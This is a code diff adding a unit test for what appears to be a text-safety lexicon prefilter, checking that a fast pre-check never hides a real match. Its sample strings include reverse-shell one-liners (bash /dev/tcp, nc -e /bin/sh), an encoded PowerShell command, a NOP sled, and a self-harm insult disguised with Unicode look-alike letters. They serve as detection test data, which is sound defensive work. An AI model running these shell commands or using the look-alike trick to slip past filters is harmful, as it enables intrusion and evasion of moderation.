@@ -151,3 +151,42 @@ def test_classifier_missing_path_is_a_clear_error(tmp_path):
     (tmp_path / "empty").mkdir()
     with pytest.raises(FileNotFoundError, match=r"config\.json"):
         HFTextClassifier(str(tmp_path / "empty"))
+
+
+def test_lexicon_prefilter_never_hides_a_match():
+    """Where ``may_match`` says no, the lexicon finds nothing: every term and pattern, in odd cases and spacing."""
+    import random
+    import sys
+
+    import pyarrow as pa
+
+    from mixassets.engine import safety
+
+    # The only non-ASCII character that lowers to an ASCII letter is the Kelvin sign, which RE2 folds with "k".
+    assert [c for c in range(sys.maxunicode + 1) if not 0xD800 <= c < 0xE000 and chr(c).lower().isascii()
+            and not chr(c).isascii()] == [0x212A]  # fmt: skip
+    terms = [t for ts in safety._LEXICON.values() for t, _ in ts if not t.startswith('re"')]
+    samples = [
+        "\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90\\x90",
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "NC\u00a0-lvnp 4444",
+        "os.dup2( s.fileno() , 0)",
+        "PowerShell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBj",
+        "",
+        "a calm text about gardens",
+        "\u212aill yourself",
+        "\u017fhut up",
+    ]
+    rng = random.Random(0)
+    for term in terms:
+        words = term.split()
+        samples.append(f"x {rng.choice(['-', '_', ' ', '  '])}".join(words))
+        samples.append(" ".join(w.upper() if rng.random() < 0.5 else w for w in words) + ".")
+        samples.append("pre" + term)
+    possible = safety.may_match(pa.array(samples))
+    for text, may in zip(samples, possible, strict=True):
+        if not may:
+            assert safety.lexicon_hits(text) == [], text
+            assert set(safety.lexicon_scores(text).values()) == {0.0}
+    assert possible[7] is False
